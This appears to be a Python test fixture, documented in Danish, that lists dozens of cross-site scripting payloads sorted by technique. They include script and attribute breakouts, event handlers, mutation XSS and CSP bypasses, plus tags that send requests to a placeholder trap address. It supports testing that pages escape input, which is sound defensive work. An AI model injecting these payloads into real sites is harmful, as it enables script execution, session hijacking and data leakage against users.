"""Nyttelasterne: tekster, der bliver til script eller trafik, hvis en side glemmer, at de er tekst.

I teksten står ``MELD`` for det script, der melder sig, ``FAELDE`` for en fremmed adresse, og
``MAERKE`` for det, udførelsen kan kendes på. Ingen nyttelast er uafsluttet: den må ikke sluge de
andre på samme side.
"""

from __future__ import annotations

from dataclasses import dataclass

MELD = "top.__xss.push(/MAERKE/.source)"
KLODS = "__klods"
"""Det navn i vinduet, en DOM-klods tager."""


@dataclass(frozen=True, slots=True)
class Nyttelast:
    """En tekst, og hvad den kan, når ingen mur står."""

    tekst: str
    virker: bool = True
    """Falsk: kun i en sammenhæng, siderne ikke har (CSS-udtryk, skabeloner i browseren, UTF-7)."""
    standses: bool = True
    """Falsk: CSP kan ikke standse den; den kører intet script og henter intet."""

    def maerket(self, maerke: str, faelde: str) -> str:
        """Teksten med sit mærke og sin fælde."""
        return self.tekst.replace("MELD", MELD).replace("MAERKE", maerke).replace("FAELDE", faelde)


def _alle(*tekster: str, virker: bool = True, standses: bool = True) -> tuple[Nyttelast, ...]:
    return tuple(Nyttelast(tekst, virker, standses) for tekst in tekster)


SCRIPT = _alle(
    "<script>MELD</script>",
    "<ScRiPt\n>MELD</sCrIpT\t>",
    "<script src=FAELDE/MAERKE></script>",
    "<script type=module>MELD</script>",
    "\u202e<script>confirm('MAERKE')</script>",
    "<script>console.log('xss:MAERKE')</script>",
    "<svg><script>prompt('MAERKE')</script></svg>",
    "<script>fetch('FAELDE/MAERKE',{mode:'no-cors'})</script>",
)
UD_AF_ELEMENTET = _alle(
    '"><script>MELD</script>',
    "'><script>MELD</script>",
    "</title><script>MELD</script>",
    "</textarea><script>alert('MAERKE')</script>",
    "</style></script><script>MELD</script>",
    "--><script>MELD</script>",
    "<!--><script>MELD</script>-->",
    "<![CDATA[><script>MELD</script>]]>",
    "<?xml version='1.0'?><script>MELD</script>",
    '<IMG """><SCRIPT>MELD</SCRIPT>">',
    "';MELD;//</script><script>MELD</script>",
)
HAENDELSER = _alle(
    "<img src=data:, onerror=MELD>",
    "<img src=data:, onerror=\"alert('MAERKE')\">",
    "<svg onload=MELD></svg>",
    "<svg/onload=MELD></svg>",
    "<svg\x0conload=MELD></svg>",
    "<svg><animate onbegin=MELD attributeName=x dur=1s></animate></svg>",
    "<body onload=MELD>",
    "<details open ontoggle=MELD>x</details>",
    "<input autofocus onfocus=MELD>",
    "<video><source onerror=MELD src=data:,></video>",
    "<audio src=data:, onerror=MELD></audio>",
    "<p onmouseover=MELD>x</p>",
)
ADRESSER = _alle(
    '<iframe srcdoc="&lt;script&gt;MELD&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:MELD"></iframe>',
    '<a href="javascript:MELD">x</a>',
    '<a href="jav&#9;ascript:MELD">x</a>',
    '<a href="&#x6A;avascript&colon;MELD">x</a>',
    '<a href="&#1; JaVaScRiPt:MELD">x</a>',
    '<svg><a xlink:href="javascript:MELD"><text y=9>x</text></a></svg>',
)
UD_AF_ATTRIBUTTEN = _alle(
    '" autofocus onfocus="MELD',
    '" style="position:fixed" onpointerenter="MELD',
    '" onmouseover=MELD x="',
    '<b data-kopier="<img src=data:, onerror=MELD>" data-valg=MAERKE>x</b>',
    '"/><svg onload=MELD></svg>',
)
MUTATION = _alle(
    '<noscript><p title="</noscript><img src=data:, onerror=MELD>"></p>',
    '<svg></p><style><a id="</style><img src=data:, onerror=MELD>"></a></svg>',
    '<textarea><img title="</textarea><img src=data:, onerror=MELD>">',
    '<xmp><p title="</xmp><img src=data:, onerror=MELD>"></p>',
    '<iframe><img title="</iframe><img src=data:, onerror=MELD>">',
    '<noembed><p title="</noembed><img src=data:, onerror=MELD>"></p>',
    '<math><style><!--</style><img title="--><img src=data:, onerror=MELD>"></math>',
)
TRAFIK = _alle(
    "<img src=FAELDE/MAERKE>",
    '<img srcset="FAELDE/MAERKE 1x">',
    "<link rel=stylesheet href=FAELDE/MAERKE>",
    "<style>@import'FAELDE/MAERKE';</style>",
    "<style>*{background:url(FAELDE/MAERKE)}</style>",
    '<p style="background:url(FAELDE/MAERKE)">x</p>',
    "<table background=FAELDE/MAERKE><tr><td>x</td></tr></table>",
    "<video poster=FAELDE/MAERKE></video>",
    "<iframe src=FAELDE/MAERKE></iframe>",
    "<object data=FAELDE/MAERKE></object>",
    "<embed src=FAELDE/MAERKE>",
    "<input type=image src=FAELDE/MAERKE>",
    # Sessionens egen dialog, kapret: scriptet spørger fælden i stedet for serveren.
    "<dialog id=session data-status=FAELDE/MAERKE data-absolut-tilbage=></dialog>",
    # Alt, siden henter herefter, hentes i fælden.
    "<base href=FAELDE/MAERKE/><img src=x>",
)
UDEN_OM_CSP = _alle(
    f"<a id={KLODS} href=data:,MAERKE>x</a>",
    f"<img name={KLODS} alt=MAERKE src=data:,>",
    f"<form id={KLODS} name=MAERKE><input name=x></form>",
    "<meta http-equiv=refresh content='0;url=FAELDE/MAERKE'>",
    standses=False,
)
ANDRE_SAMMENHAENGE = _alle(
    "' autofocus onfocus='MELD",
    " autofocus onfocus=MELD ",
    "javascript:MELD//MAERKE",
    "data:text/html,<script>MELD</script>".replace("<", "%3C").replace(">", "%3E"),
    "';MELD;//",
    "\\';MELD;//",
    "${MELD}`;MELD;//",
    "{{ MELD }}{% include 'MAERKE' %}",
    "{{constructor.constructor('MELD')()}}",
    "\\u003cscript\\u003eMELD\\u003c/script\\u003e",
    "&lt;script&gt;MELD&lt;/script&gt;",
    "＜script＞MELD＜/script＞",
    "<ſcript>MELD</ſcript>",
    "+ADw-script+AD4-MELD+ADw-/script+AD4-",
    '<p style="width:expression(MELD)">x</p>',
    '<p style="behavior:url(FAELDE/MAERKE)">x</p>',
    "<div hx-get=FAELDE/MAERKE hx-trigger=load>x</div>",
    "<marquee onstart=MELD>x</marquee>",
    "<template><script>MELD</script></template>",
    "<object data='javascript:MELD'></object>",
    virker=False,
)
NYTTELASTER = (
    *SCRIPT,
    *UD_AF_ELEMENTET,
    *HAENDELSER,
    *ADRESSER,
    *UD_AF_ATTRIBUTTEN,
    *MUTATION,
    *TRAFIK,
    *UDEN_OM_CSP,
    *ANDRE_SAMMENHAENGE,
)
